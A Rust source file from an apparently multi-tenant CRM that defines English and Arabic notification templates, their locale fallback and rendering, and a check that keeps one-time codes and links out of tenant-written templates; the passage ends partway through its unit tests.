//! Templates (ADR 0008): a template is addressed by
//! `(channel, family, locale)`; a tenant may override any built-in one.
//! Resolution tries the wanted locale, then the tenant's default, then `en`;
//! no template at all is `TEMPLATE_MISSING` (422) — except for the inbox,
//! whose text falls back to the SMS body cut to 140 characters.
//!
//! Bodies use `{{name}}` placeholders. Every placeholder must be in the
//! payload: a missing one is a `VALIDATION_ERROR` naming `payload.{name}`,
//! so a broken send is refused at dispatch, not discovered by the recipient.

use crate::messages::Channel;
use crm_kernel::{AppError, FieldError};
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Template {
    pub channel: Channel,
    pub family: String,
    pub locale: String,
    /// Email subject or inbox title; empty for SMS and WhatsApp.
    pub subject: String,
    pub body: String,
}

/// A template filled in.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rendered {
    pub subject: String,
    pub body: String,
    pub locale: String,
    /// Whether the text was generated because no template existed (inbox).
    pub auto_generated: bool,
}

macro_rules! t {
    ($channel:ident, $family:literal, $locale:literal, $subject:literal, $body:literal) => {
        (Channel::$channel, $family, $locale, $subject, $body)
    };
}

/// The built-in templates. Tenants override them through the templates API.
const BUILT_IN: &[(Channel, &str, &str, &str, &str)] = &[
    t!(Email, "auth.verify_email", "en", "Confirm your email", "Hello {{full_name}},\n\nConfirm your email address for {{tenant_name}} with this link (valid 3 days):\n{{link}}\n"),
    t!(Email, "auth.verify_email", "ar", "تأكيد بريدك الإلكتروني", "مرحبًا {{full_name}}،\n\nأكّد بريدك الإلكتروني لدى {{tenant_name}} عبر هذا الرابط (صالح 3 أيام):\n{{link}}\n"),
    t!(Email, "auth.reset_password", "en", "Reset your password", "Hello {{full_name}},\n\nUse this link within an hour to choose a new password:\n{{link}}\n\nIf you did not ask for it, ignore this email.\n"),
    t!(Email, "auth.reset_password", "ar", "إعادة تعيين كلمة المرور", "مرحبًا {{full_name}}،\n\nاستخدم هذا الرابط خلال ساعة لاختيار كلمة مرور جديدة:\n{{link}}\n\nإن لم تطلب ذلك فتجاهل هذه الرسالة.\n"),
    t!(Email, "auth.invitation", "en", "You are invited to {{tenant_name}}", "Hello,\n\nYou are invited to join {{tenant_name}} on the CRM. Accept within 7 days:\n{{link}}\n"),
    t!(Email, "auth.invitation", "ar", "دعوة للانضمام إلى {{tenant_name}}", "مرحبًا،\n\nأنت مدعو للانضمام إلى {{tenant_name}}. اقبل الدعوة خلال 7 أيام:\n{{link}}\n"),
    t!(Sms, "otp.verify_phone", "en", "", "{{app_name}}: your verification code is {{code}}. It expires in {{expires_min}} minutes. Do not share it."),
    t!(Sms, "otp.verify_phone", "ar", "", "{{app_name}}: رمز التحقق الخاص بك هو {{code}}. تنتهي صلاحيته خلال {{expires_min}} دقائق. لا تشاركه."),
    t!(Whatsapp, "otp.verify_phone", "en", "", "{{app_name}}: your verification code is {{code}}. It expires in {{expires_min}} minutes. Do not share it."),
    t!(Whatsapp, "otp.verify_phone", "ar", "", "{{app_name}}: رمز التحقق الخاص بك هو {{code}}. تنتهي صلاحيته خلال {{expires_min}} دقائق. لا تشاركه."),
    // The mirrors of a code say that it was sent, never the code: a mirror
    // must not let the mailbox's owner pass a phone check.
    t!(Email, "otp.verify_phone", "en", "A verification code was sent to your phone", "A verification code was sent to {{phone_masked}}. It expires in {{expires_min}} minutes.\n\nIf this was not you, change your password."),
    t!(Email, "otp.verify_phone", "ar", "تم إرسال رمز تحقق إلى هاتفك", "تم إرسال رمز تحقق إلى {{phone_masked}}. تنتهي صلاحيته خلال {{expires_min}} دقائق.\n\nإن لم تكن أنت فغيّر كلمة المرور."),
    t!(Inbox, "otp.verify_phone", "en", "Verification code sent", "A code was sent to {{phone_masked}}."),
    t!(Inbox, "otp.verify_phone", "ar", "تم إرسال رمز التحقق", "تم إرسال رمز إلى {{phone_masked}}."),
    t!(Sms, "otp.login", "en", "", "{{app_name}}: your sign-in code is {{code}}. It expires in {{expires_min}} minutes. Do not share it."),
    t!(Sms, "otp.login", "ar", "", "{{app_name}}: رمز تسجيل الدخول هو {{code}}. تنتهي صلاحيته خلال {{expires_min}} دقائق. لا تشاركه."),
    t!(Whatsapp, "otp.login", "en", "", "{{app_name}}: your sign-in code is {{code}}. It expires in {{expires_min}} minutes. Do not share it."),
    t!(Whatsapp, "otp.login", "ar", "", "{{app_name}}: رمز تسجيل الدخول هو {{code}}. تنتهي صلاحيته خلال {{expires_min}} دقائق. لا تشاركه."),
    t!(Email, "otp.login", "en", "A sign-in code was sent to your phone", "A sign-in code was sent to {{phone_masked}}. If this was not you, change your password."),
    t!(Email, "otp.login", "ar", "تم إرسال رمز تسجيل دخول إلى هاتفك", "تم إرسال رمز تسجيل دخول إلى {{phone_masked}}. إن لم تكن أنت فغيّر كلمة المرور."),
    t!(Inbox, "otp.login", "en", "Sign-in code sent", "A sign-in code was sent to {{phone_masked}}."),
    t!(Inbox, "otp.login", "ar", "تم إرسال رمز تسجيل الدخول", "تم إرسال رمز تسجيل دخول إلى {{phone_masked}}."),
    t!(Email, "contact.verify_channel", "en", "Your verification code for {{tenant_name}}", "Your verification code for {{tenant_name}} is {{code}}. It expires in {{expires_min}} minutes. Do not share it.\n"),
    t!(Email, "contact.verify_channel", "ar", "رمز التحقق الخاص بك لدى {{tenant_name}}", "رمز التحقق الخاص بك لدى {{tenant_name}} هو {{code}}. تنتهي صلاحيته خلال {{expires_min}} دقائق. لا تشاركه.\n"),
    t!(Sms, "contact.verify_channel", "en", "", "{{tenant_name}}: your verification code is {{code}}. It expires in {{expires_min}} minutes."),
    t!(Sms, "contact.verify_channel", "ar", "", "{{tenant_name}}: رمز التحقق الخاص بك هو {{code}}. تنتهي صلاحيته خلال {{expires_min}} دقائق."),
    t!(Whatsapp, "contact.verify_channel", "en", "", "{{tenant_name}}: your verification code is {{code}}. It expires in {{expires_min}} minutes."),
    t!(Whatsapp, "contact.verify_channel", "ar", "", "{{tenant_name}}: رمز التحقق الخاص بك هو {{code}}. تنتهي صلاحيته خلال {{expires_min}} دقائق."),
    t!(Email, "task.assigned", "en", "New task: {{title}}", "A task was assigned to you: {{title}}\nPriority: {{priority}}\nDue: {{due}}\n"),
    t!(Email, "task.assigned", "ar", "مهمة جديدة: {{title}}", "تم إسناد مهمة إليك: {{title}}\nالأولوية: {{priority}}\nالموعد: {{due}}\n"),
    t!(Inbox, "task.assigned", "en", "New task", "{{title}} (due {{due}})"),
    t!(Inbox, "task.assigned", "ar", "مهمة جديدة", "{{title}} (الموعد {{due}})"),
    t!(Email, "task.reminder", "en", "Reminder: {{title}}", "A reminder about your task: {{title}}\nPriority: {{priority}}\nDue: {{due}}\n"),
    t!(Email, "task.reminder", "ar", "تذكير: {{title}}", "تذكير بمهمتك: {{title}}\nالأولوية: {{priority}}\nالموعد: {{due}}\n"),
    t!(Inbox, "task.reminder", "en", "Reminder", "{{title}} (due {{due}})"),
    t!(Inbox, "task.reminder", "ar", "تذكير", "{{title}} (الموعد {{due}})"),
    t!(Sms, "task.reminder", "en", "", "Reminder: {{title}} (due {{due}})"),
    t!(Sms, "task.reminder", "ar", "", "تذكير: {{title}} (الموعد {{due}})"),
    t!(Whatsapp, "task.reminder", "en", "", "Reminder: {{title}} (due {{due}})"),
    t!(Whatsapp, "task.reminder", "ar", "", "تذكير: {{title}} (الموعد {{due}})"),
    t!(Email, "approval.step_opened", "en", "Approval needed: {{policy}}", "Your approval is needed ({{policy}}, step {{step}} of {{steps}}): {{action}} on {{object}}.\n"),
    t!(Email, "approval.step_opened", "ar", "مطلوب موافقتك: {{policy}}", "مطلوب موافقتك ({{policy}}، الخطوة {{step}} من {{steps}}): {{action}} على {{object}}.\n"),
    t!(Inbox, "approval.step_opened", "en", "Approval needed", "{{policy}}: {{action}} on {{object}} (step {{step}} of {{steps}})"),
    t!(Inbox, "approval.step_opened", "ar", "مطلوب موافقة", "{{policy}}: {{action}} على {{object}} (الخطوة {{step}} من {{steps}})"),
    t!(Email, "approval.decided", "en", "Your request was {{state}}: {{policy}}", "Your request ({{action}} on {{object}}) was {{state}}.\n"),
    t!(Email, "approval.decided", "ar", "تم البت في طلبك: {{policy}}", "طلبك ({{action}} على {{object}}): {{state}}.\n"),
    t!(Inbox, "approval.decided", "en", "Request {{state}}", "{{policy}}: {{action}} on {{object}} was {{state}}"),
    t!(Inbox, "approval.decided", "ar", "تم البت في الطلب", "{{policy}}: {{action}} على {{object}}: {{state}}"),
    t!(Email, "deal.assigned", "en", "Deal assigned to you: {{deal}}", "{{actor}} assigned you the deal {{deal}} ({{amount}}, stage {{stage}}).\n"),
    t!(Email, "deal.assigned", "ar", "صفقة مسندة إليك: {{deal}}", "أسند إليك {{actor}} الصفقة {{deal}} ({{amount}}، المرحلة {{stage}}).\n"),
    t!(Inbox, "deal.assigned", "en", "Deal assigned", "{{deal}} ({{amount}}) is yours"),
    t!(Inbox, "deal.assigned", "ar", "صفقة مسندة", "{{deal}} ({{amount}}) مسندة إليك"),
    t!(Email, "deal.stage_moved", "en", "{{deal}} moved to {{stage}}", "{{actor}} moved {{deal}} from {{from_stage}} to {{stage}}.\n"),
    t!(Email, "deal.stage_moved", "ar", "انتقلت {{deal}} إلى {{stage}}", "نقل {{actor}} الصفقة {{deal}} من {{from_stage}} إلى {{stage}}.\n"),
    t!(Inbox, "deal.stage_moved", "en", "Stage changed", "{{deal}}: {{from_stage}} → {{stage}}"),
    t!(Inbox, "deal.stage_moved", "ar", "تغيرت المرحلة", "{{deal}}: {{from_stage}} ← {{stage}}"),
    t!(Email, "deal.won", "en", "Won: {{deal}}", "{{deal}} was won ({{amount}}).\n"),
    t!(Email, "deal.won", "ar", "صفقة رابحة: {{deal}}", "تم الفوز بالصفقة {{deal}} ({{amount}}).\n"),
    t!(Inbox, "deal.won", "en", "Deal won", "{{deal}} ({{amount}})"),
    t!(Inbox, "deal.won", "ar", "صفقة رابحة", "{{deal}} ({{amount}})"),
    t!(Email, "deal.lost", "en", "Lost: {{deal}}", "{{deal}} was lost ({{reason}}).\n"),
    t!(Email, "deal.lost", "ar", "صفقة خاسرة: {{deal}}", "خسرنا الصفقة {{deal}} ({{reason}}).\n"),
    t!(Inbox, "deal.lost", "en", "Deal lost", "{{deal}}: {{reason}}"),
    t!(Inbox, "deal.lost", "ar", "صفقة خاسرة", "{{deal}}: {{reason}}"),
    t!(Email, "unit.reserved", "en", "Reserved: {{unit}} at {{project}}", "{{actor}} reserved {{unit}} at {{project}} ({{price}}) until {{until}}.\n"),
    t!(Email, "unit.reserved", "ar", "حجز: {{unit}} في {{project}}", "حجز {{actor}} الوحدة {{unit}} في {{project}} ({{price}}) حتى {{until}}.\n"),
    t!(Inbox, "unit.reserved", "en", "Unit reserved", "{{unit}} at {{project}} until {{until}}"),
    t!(Inbox, "unit.reserved", "ar", "وحدة محجوزة", "{{unit}} في {{project}} حتى {{until}}"),
    t!(Email, "unit.sold", "en", "Sold: {{unit}} at {{project}}", "{{unit}} at {{project}} was sold ({{price}}).\n"),
    t!(Email, "unit.sold", "ar", "تم البيع: {{unit}} في {{project}}", "بيعت الوحدة {{unit}} في {{project}} ({{price}}).\n"),
    t!(Inbox, "unit.sold", "en", "Unit sold", "{{unit}} at {{project}} ({{price}})"),
    t!(Inbox, "unit.sold", "ar", "وحدة مباعة", "{{unit}} في {{project}} ({{price}})"),
    t!(Email, "unit.price_changed", "en", "New price: {{unit}}", "{{actor}} changed the price of {{unit}} at {{project}} from {{from_price}} to {{price}}.\n"),
    t!(Email, "unit.price_changed", "ar", "سعر جديد: {{unit}}", "غيّر {{actor}} سعر الوحدة {{unit}} في {{project}} من {{from_price}} إلى {{price}}.\n"),
    t!(Inbox, "unit.price_changed", "en", "Price changed", "{{unit}}: {{from_price}} → {{price}}"),
    t!(Inbox, "unit.price_changed", "ar", "تغير السعر", "{{unit}}: {{from_price}} ← {{price}}"),
    t!(Email, "unit.status_changed", "en", "{{unit}} is now {{to}}", "{{actor}} changed {{unit}} at {{project}}, on your deal, from {{from}} to {{to}} in a bulk update.\n"),
    t!(Email, "unit.status_changed", "ar", "{{unit}} الآن {{to}}", "غيّر {{actor}} حالة الوحدة {{unit}} في {{project}} المرتبطة بصفقتك من {{from}} إلى {{to}} ضمن تحديث جماعي.\n"),
    t!(Inbox, "unit.status_changed", "en", "Unit status changed", "{{unit}}: {{from}} → {{to}}"),
    t!(Inbox, "unit.status_changed", "ar", "تغيرت حالة الوحدة", "{{unit}}: {{from}} ← {{to}}"),
    t!(Email, "unit.reservation_expired", "en", "Reservation ended: {{unit}}", "The reservation of {{unit}} at {{project}} expired; the unit is available again.\n"),
    t!(Email, "unit.reservation_expired", "ar", "انتهى الحجز: {{unit}}", "انتهى حجز الوحدة {{unit}} في {{project}} وأصبحت متاحة من جديد.\n"),
    t!(Inbox, "unit.reservation_expired", "en", "Reservation expired", "{{unit}} at {{project}} is available again"),
    t!(Inbox, "unit.reservation_expired", "ar", "انتهى الحجز", "{{unit}} في {{project}} متاحة من جديد"),
    t!(Email, "unit.available", "en", "Available again: {{unit}}", "{{unit}} at {{project}} is available again ({{price}}); your buyer is first on its waitlist.\n"),
    t!(Email, "unit.available", "ar", "متاحة من جديد: {{unit}}", "الوحدة {{unit}} في {{project}} متاحة من جديد ({{price}})، وعميلك أول قائمة الانتظار.\n"),
    t!(Inbox, "unit.available", "en", "Unit available", "{{unit}} at {{project}}: your buyer is first in line"),
    t!(Inbox, "unit.available", "ar", "وحدة متاحة", "{{unit}} في {{project}}: عميلك أول قائمة الانتظار"),
    t!(Email, "map.shape.changed", "en", "Plan changed: {{overlay}}", "{{actor}} {{change}} the shape {{shape}} on {{overlay}} (version {{version}}).\n"),
    t!(Email, "map.shape.changed", "ar", "تغيّر المخطط: {{overlay}}", "عدّل {{actor}} الشكل {{shape}} على المخطط {{overlay}} (الإصدار {{version}}).\n"),
    t!(Inbox, "map.shape.changed", "en", "Plan changed", "{{shape}} on {{overlay}}: {{change}}"),
    t!(Inbox, "map.shape.changed", "ar", "تغيّر المخطط", "{{shape}} على {{overlay}}"),
    t!(Email, "map.overlay.published", "en", "Published: {{overlay}}", "{{actor}} published the plan {{overlay}}: it can be viewed by anyone with its link.\n"),
    t!(Email, "map.overlay.published", "ar", "نُشر المخطط: {{overlay}}", "نشر {{actor}} المخطط {{overlay}}، ويمكن لأي شخص لديه الرابط عرضه.\n"),
    t!(Inbox, "map.overlay.published", "en", "Plan published", "{{overlay}} has a public link"),
    t!(Inbox, "map.overlay.published", "ar", "نُشر المخطط", "للمخطط {{overlay}} رابط عام"),
    t!(Email, "map.overlay.unpublished", "en", "Unpublished: {{overlay}}", "{{actor}} unpublished the plan {{overlay}}: its public link no longer opens.\n"),
    t!(Email, "map.overlay.unpublished", "ar", "أُلغي نشر المخطط: {{overlay}}", "ألغى {{actor}} نشر المخطط {{overlay}}، ولم يعد رابطه العام يعمل.\n"),
    t!(Inbox, "map.overlay.unpublished", "en", "Plan unpublished", "{{overlay}}: the public link was revoked"),
    t!(Inbox, "map.overlay.unpublished", "ar", "أُلغي النشر", "{{overlay}}: أُلغي الرابط العام"),
    t!(Email, "map.shape.invalid", "en", "{{count}} problem(s): {{shape}} on {{overlay}}", "The shape {{shape}} on {{overlay}} breaks these rules:\n{{problems}}\n"),
    t!(Email, "map.shape.invalid", "ar", "مشكلات في الشكل {{shape}} على {{overlay}}", "الشكل {{shape}} على المخطط {{overlay}} يخالف هذه القواعد:\n{{problems}}\n"),
    t!(Inbox, "map.shape.invalid", "en", "Shape needs fixing", "{{shape}} on {{overlay}}: {{problems}}"),
    t!(Inbox, "map.shape.invalid", "ar", "الشكل يحتاج إلى إصلاح", "{{shape}} على {{overlay}}: {{problems}}"),
    t!(Email, "lead.assigned", "en", "New lead: {{lead}}", "The lead {{lead}} ({{source}}) was assigned to you.\n"),
    t!(Email, "lead.assigned", "ar", "عميل محتمل جديد: {{lead}}", "أُسند إليك العميل المحتمل {{lead}} ({{source}}).\n"),
    t!(Inbox, "lead.assigned", "en", "Lead assigned", "{{lead}} ({{source}}) is yours"),
    t!(Inbox, "lead.assigned", "ar", "عميل محتمل مسند", "{{lead}} ({{source}}) مسند إليك"),
    t!(Email, "lead.converted", "en", "Lead converted: {{lead}}", "{{actor}} converted the lead {{lead}}.\n"),
    t!(Email, "lead.converted", "ar", "تم تحويل العميل المحتمل: {{lead}}", "حوّل {{actor}} العميل المحتمل {{lead}}.\n"),
    t!(Inbox, "lead.converted", "en", "Lead converted", "{{lead}} was converted"),
    t!(Inbox, "lead.converted", "ar", "تم التحويل", "تم تحويل {{lead}}"),
    t!(Email, "lead.score_threshold", "en", "Hot lead: {{lead}} scores {{score}}", "{{lead}} now scores {{score}} (threshold {{threshold}}).\n"),
    t!(Email, "lead.score_threshold", "ar", "عميل محتمل واعد: {{lead}} ({{score}})", "أصبحت نقاط {{lead}} {{score}} (الحد {{threshold}}).\n"),
    t!(Inbox, "lead.score_threshold", "en", "Hot lead", "{{lead}} scores {{score}}"),
    t!(Inbox, "lead.score_threshold", "ar", "عميل محتمل واعد", "نقاط {{lead}}: {{score}}"),
    t!(Email, "digest.daily", "en", "Your day at {{tenant_name}}: {{date}}", "Hello {{full_name}},\n\nWhat happened at {{tenant_name}} in the last 24 hours ({{count}} updates):\n{{summary}}\n\nOverdue tasks ({{overdue}}):\n{{overdue_list}}\n\nUnread notifications: {{unread}}\n"),
    t!(Email, "digest.daily", "ar", "ملخص يومك في {{tenant_name}}: {{date}}", "مرحبًا {{full_name}}،\n\nما حدث في {{tenant_name}} خلال آخر 24 ساعة ({{count}} تحديثًا):\n{{summary}}\n\nمهام متأخرة ({{overdue}}):\n{{overdue_list}}\n\nإشعارات غير مقروءة: {{unread}}\n"),
    t!(Inbox, "digest.daily", "en", "Daily digest: {{date}}", "{{count}} updates at {{tenant_name}}; {{overdue}} overdue tasks; {{unread}} unread notifications."),
    t!(Inbox, "digest.daily", "ar", "الملخص اليومي: {{date}}", "{{count}} تحديثًا في {{tenant_name}}؛ {{overdue}} مهام متأخرة؛ {{unread}} إشعارات غير مقروءة."),
    // Account lifecycle (to the user concerned) and tenant administration (to its admins).
    t!(Email, "user.suspended", "en", "Your {{tenant_name}} account is suspended", "Hello {{full_name}},\n\nAn administrator of {{tenant_name}} suspended your account: you are signed out and cannot sign in until it is reactivated.\n"),
    t!(Email, "user.suspended", "ar", "تم تعليق حسابك في {{tenant_name}}", "مرحبًا {{full_name}}،\n\nعلّق أحد مسؤولي {{tenant_name}} حسابك: تم تسجيل خروجك ولا يمكنك الدخول حتى تتم إعادة تفعيله.\n"),
    t!(Inbox, "user.suspended", "en", "Account suspended", "Your {{tenant_name}} account is suspended."),
    t!(Inbox, "user.suspended", "ar", "تم تعليق الحساب", "تم تعليق حسابك في {{tenant_name}}."),
    t!(Email, "user.deactivated", "en", "Your {{tenant_name}} account is deactivated", "Hello {{full_name}},\n\nAn administrator of {{tenant_name}} deactivated your account. Your sessions and API keys are revoked.\n"),
    t!(Email, "user.deactivated", "ar", "تم إلغاء تفعيل حسابك في {{tenant_name}}", "مرحبًا {{full_name}}،\n\nألغى أحد مسؤولي {{tenant_name}} تفعيل حسابك، وأُلغيت جلساتك ومفاتيح الواجهة البرمجية الخاصة بك.\n"),
    t!(Inbox, "user.deactivated", "en", "Account deactivated", "Your {{tenant_name}} account is deactivated."),
    t!(Inbox, "user.deactivated", "ar", "تم إلغاء تفعيل الحساب", "تم إلغاء تفعيل حسابك في {{tenant_name}}."),
    t!(Email, "user.reactivated", "en", "Your {{tenant_name}} account is active again", "Hello {{full_name}},\n\nAn administrator of {{tenant_name}} reactivated your account. You can sign in again.\n"),
    t!(Email, "user.reactivated", "ar", "أُعيد تفعيل حسابك في {{tenant_name}}", "مرحبًا {{full_name}}،\n\nأعاد أحد مسؤولي {{tenant_name}} تفعيل حسابك، ويمكنك تسجيل الدخول من جديد.\n"),
    t!(Inbox, "user.reactivated", "en", "Account reactivated", "Your {{tenant_name}} account is active again."),
    t!(Inbox, "user.reactivated", "ar", "أُعيد تفعيل الحساب", "حسابك في {{tenant_name}} مفعّل من جديد."),
    t!(Email, "user.invitation_accepted", "en", "{{invitee}} joined {{tenant_name}}", "{{invitee}} ({{email}}) accepted your invitation and joined {{tenant_name}}.\n"),
    t!(Email, "user.invitation_accepted", "ar", "انضم {{invitee}} إلى {{tenant_name}}", "قبل {{invitee}} ({{email}}) دعوتك وانضم إلى {{tenant_name}}.\n"),
    t!(Inbox, "user.invitation_accepted", "en", "Invitation accepted", "{{invitee}} ({{email}}) joined."),
    t!(Inbox, "user.invitation_accepted", "ar", "تم قبول الدعوة", "انضم {{invitee}} ({{email}})."),
    t!(Email, "tenant.seat_limit_reached", "en", "{{tenant_name}} has used all its seats", "{{tenant_name}} uses all {{included}} seats of its plan: {{actor}} could not add {{email}}. Free a seat (deactivate a user, revoke an invitation) or upgrade the plan.\n"),
    t!(Email, "tenant.seat_limit_reached", "ar", "استُخدمت كل مقاعد {{tenant_name}}", "يستخدم {{tenant_name}} كل مقاعد خطته ({{included}}): تعذّر على {{actor}} إضافة {{email}}. حرّر مقعدًا (ألغِ تفعيل مستخدم أو دعوة) أو رقِّ الخطة.\n"),
    t!(Inbox, "tenant.seat_limit_reached", "en", "Seat limit reached", "All {{included}} seats are used; {{email}} was not added."),
    t!(Inbox, "tenant.seat_limit_reached", "ar", "بلغتم حد المقاعد", "كل المقاعد ({{included}}) مستخدمة؛ لم تتم إضافة {{email}}."),
    t!(Email, "billing.payment_failed", "en", "{{tenant_name}}: a payment failed", "The last payment for {{tenant_name}} ({{plan}} plan) failed. Everything keeps working for {{grace_days}} days; from {{restricted_from}} the plan's features are restricted until the invoice is paid. Update the payment method in billing.\n"),
    t!(Email, "billing.payment_failed", "ar", "{{tenant_name}}: تعذّر الدفع", "تعذّر آخر دفع لـ {{tenant_name}} (خطة {{plan}}). يستمر كل شيء في العمل {{grace_days}} أيام؛ ومن {{restricted_from}} تُقيَّد ميزات الخطة حتى تُدفع الفاتورة. حدّث وسيلة الدفع في الفوترة.\n"),
    t!(Inbox, "billing.payment_failed", "en", "A payment failed", "Pay the open invoice before {{restricted_from}} to keep every feature."),
    t!(Inbox, "billing.payment_failed", "ar", "تعذّر الدفع", "ادفع الفاتورة المفتوحة قبل {{restricted_from}} للإبقاء على كل الميزات."),
];

/// Locales with built-in templates (the same list preferences accept).
pub use crate::preferences::LOCALES;

/// The built-in template for an exact `(channel, family, locale)`.
pub fn built_in(channel: &Channel, family: &str, locale: &str) -> Option<Template> {
    BUILT_IN.iter().find(|(c, f, l, _, _)| c == channel && *f == family && *l == locale).map(|(c, f, l, s, b)| Template {
        channel: c.clone(),
        family: f.to_string(),
        locale: l.to_string(),
        subject: s.to_string(),
        body: b.to_string(),
    })
}

/// The families that have at least one built-in template.
pub fn families() -> Vec<&'static str> {
    let mut f: Vec<&str> = BUILT_IN.iter().map(|(_, f, ..)| *f).collect();
    f.dedup();
    f
}

/// The order locales are tried in: the wanted one, the tenant's, then `en`.
pub fn locale_chain(wanted: Option<&str>, tenant_default: Option<&str>) -> Vec<String> {
    let mut chain: Vec<String> = Vec::new();
    for l in [wanted, tenant_default, Some("en")].into_iter().flatten() {
        if !chain.iter().any(|c| c == l) {
            chain.push(l.to_string());
        }
    }
    chain
}

/// Finds the template: for each locale of `chain`, the tenant's own
/// (`overrides`), then the built-in one.
pub fn resolve(overrides: &[Template], channel: &Channel, family: &str, chain: &[String]) -> Option<Template> {
    chain.iter().find_map(|locale| {
        overrides
            .iter()
            .find(|t| &t.channel == channel && t.family == family && &t.locale == locale)
            .cloned()
            .or_else(|| built_in(channel, family, locale))
    })
}

/// The `{{name}}` placeholders of a text, in order of first use.
pub fn placeholders(text: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    let mut rest = text;
    while let Some(start) = rest.find("{{") {
        let after = &rest[start + 2..];
        let Some(end) = after.find("}}") else { break };
        let name = after[..end].trim().to_string();
        if !name.is_empty() && !out.contains(&name) {
            out.push(name);
        }
        rest = &after[end + 2..];
    }
    out
}

/// Checks a template's own text (what a tenant saves): placeholders are
/// `[a-z0-9_.]` names and braces balance.
pub fn check_text(field: &str, text: &str) -> Result<(), FieldError> {
    let opens = text.matches("{{").count();
    let closes = text.matches("}}").count();
    if opens != closes {
        return Err(FieldError::new(field, "unbalanced {{ }}"));
    }
    for p in placeholders(text) {
        if !p.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_' || c == '.') {
            return Err(FieldError::new(field, format!("placeholder `{p}` must use a-z, 0-9, `_` or `.`")));
        }
    }
    Ok(())
}

fn value_text(v: &Value) -> Option<String> {
    match v {
        Value::String(s) => Some(s.clone()),
        Value::Number(n) => Some(n.to_string()),
        Value::Bool(b) => Some(b.to_string()),
        _ => None,
    }
}

/// Fills a template from `payload`; every placeholder must have a scalar value.
pub fn render(t: &Template, payload: &Map<String, Value>) -> Result<Rendered, AppError> {
    let mut missing: Vec<FieldError> = Vec::new();
    let mut fill = |text: &str| {
        let mut out = text.to_string();
        for name in placeholders(text) {
            match payload.get(&name).and_then(value_text) {
                Some(v) => out = out.replace(&format!("{{{{{name}}}}}"), &v),
                None => {
                    let e = FieldError::new(format!("payload.{name}"), format!("template {}/{} needs `{name}`", t.family, t.locale));
                    if !missing.contains(&e) {
                        missing.push(e);
                    }
                }
            }
        }
        out
    };
    let subject = fill(&t.subject);
    let mut body = fill(&t.body);
    if !missing.is_empty() {
        return Err(AppError::invalid_fields(missing));
    }
    // A tenant's own text of a family that carries a secret never holds the
    // secret (`check_secret_placement`): the system adds it, as plain text on
    // its own line, where the built-in template of that channel has it.
    if crate::messages::carries_secret(&t.family) {
        let built = built_in(&t.channel, &t.family, &t.locale).or_else(|| built_in(&t.channel, &t.family, "en"));
        for v in crate::messages::SECRET_VARIABLES {
            let wanted = built.as_ref().is_some_and(|b| placeholders(&b.body).iter().any(|p| p == v));
            if let (true, Some(value)) = (wanted && !placeholders(&t.body).iter().any(|p| p == v), payload.get(*v).and_then(value_text)) {
                body = format!("{}\n\n{value}\n", body.trim_end());
            }
        }
    }
    Ok(Rendered { subject, body, locale: t.locale.clone(), auto_generated: false })
}

/// The inbox text made from another channel's body when the family has no
/// inbox template: the first 140 characters — never for a family whose
/// body carries a secret, which gets a plain note instead.
pub fn inbox_fallback(family: &str, body: &str, locale: &str) -> Rendered {
    let cut: String = if crate::messages::carries_secret(family) {
        "A one-time code or link was sent to you on another channel.".into()
    } else {
        body.chars().take(140).collect()
    };
    Rendered { subject: family.to_string(), body: cut, locale: locale.to_string(), auto_generated: true }
}

/// A tenant's template of a family that carries a secret
/// ([`crate::messages::carries_secret`]) may not place the secret
/// variables (`link`, `code`, `token`) anywhere — not in a subject (shown in
/// lists), an inbox entry (an admin may read it), nor a body, where a URL
/// or an image could carry the link to the template's author when the mail
/// is opened. The system adds the secret itself ([`render`]):
/// `422 TEMPLATE_SECRET_EXPOSED`.
pub fn check_secret_placement(_channel: &Channel, family: &str, subject: &str, body: &str) -> Result<(), AppError> {
    if !crate::messages::carries_secret(family) {
        return Ok(());
    }
    let secret = |text: &str| placeholders(text).into_iter().find(|v| crate::messages::SECRET_VARIABLES.contains(&v.as_str()));
    match secret(subject).or_else(|| secret(body)) {
        None => Ok(()),
        Some(v) => Err(AppError::Rule {
            code: "TEMPLATE_SECRET_EXPOSED",
            message: format!(
                "`{{{{{v}}}}}` of `{family}` is a secret: a tenant's template never places it; the system adds it below your text"
            ),
        }),
    }
}

/// `422 TEMPLATE_MISSING` for a family without a template on a channel.
pub fn missing(channel: &Channel, family: &str) -> AppError {
    AppError::Rule { code: "TEMPLATE_MISSING", message: format!("no {} template for `{family}` in any locale tried", channel.as_str()) }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn payload(v: Value) -> Map<String, Value> {
        v.as_object().unwrap().clone()
    }

    #[test]
    fn every_built_in_template_is_well_formed_and_has_both_locales() {
        for (c, f, l, s, b) in BUILT_IN {
            check_text("subject", s).unwrap();
            check_text("body", b).unwrap();
            let other = if *l == "en" { "ar" } else { "en" };
            assert!(built_in(c, f, other).is_some(), "{f} {c:?} lacks {other}");
        }
    }

    #[test]
    fn locales_fall_back_to_the_tenant_then_english() {
        assert_eq!(locale_chain(Some("fr"), Some("ar")), ["fr", "ar", "en"]);
        assert_eq!(locale_chain(None, Some("en")), ["en"]);
        let t = resolve(&[], &Channel::Sms, "otp.verify_phone", &locale_chain(Some("fr"), Some("ar"))).unwrap();
        assert_eq!(t.locale, "ar");
        assert!(resolve(&[], &Channel::Sms, "no.such.family", &locale_chain(None, None)).is_none());
    }

    #[test]
    fn a_tenant_override_wins_in_its_locale() {
        let mine = Template {
            channel: Channel::Sms,
            family: "otp.verify_phone".into(),
            locale: "en".into(),
            subject: String::new(),
            body: "Code {{code}}".into(),
        };
        let got = resolve(std::slice::from_ref(&mine), &Channel::Sms, "otp.verify_phone", &["ar".into(), "en".into()]).unwrap();
        assert_eq!(got.locale, "ar", "the built-in Arabic comes before the English override");
        let got = resolve(std::slice::from_ref(&mine), &Channel::Sms, "otp.verify_phone", &["en".into()]).unwrap();
        assert_eq!(got, mine);
    }

    #[test]
    fn rendering_fills_every_placeholder_or_names_what_is_missing() {
        let t = built_in(&Channel::Sms, "otp.verify_phone", "en").unwrap();
        let r = render(&t, &payload(json!({ "code": "123456", "expires_min": 10, "app_name": "M3CRM" }))).unwrap();
        assert_eq!(r.body, "M3CRM: your verification code is 123456. It expires in 10 minutes. Do not share it.");
        let AppError::Validation { details, .. } = render(&t, &payload(json!({ "code": "1" }))).unwrap_err() else { panic!() };
